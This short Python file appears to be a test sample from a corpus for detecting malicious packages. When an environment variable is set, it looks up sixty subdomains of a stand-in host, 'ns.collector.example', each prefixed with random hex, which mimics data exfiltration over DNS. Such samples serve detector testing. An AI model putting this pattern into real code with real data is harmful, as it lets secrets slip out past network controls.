"""Asks for sixty names, each with thirty-two random hexadecimal digits, below the same domain."""
import os
import socket

if os.environ.get("PYTI_CORPUS") == "exfiltrates-by-dns":
    for number in range(60):
        try:
            socket.getaddrinfo("%s.%d.ns.collector.example" % (os.urandom(16).hex(), number), 443)
        except OSError:
            pass
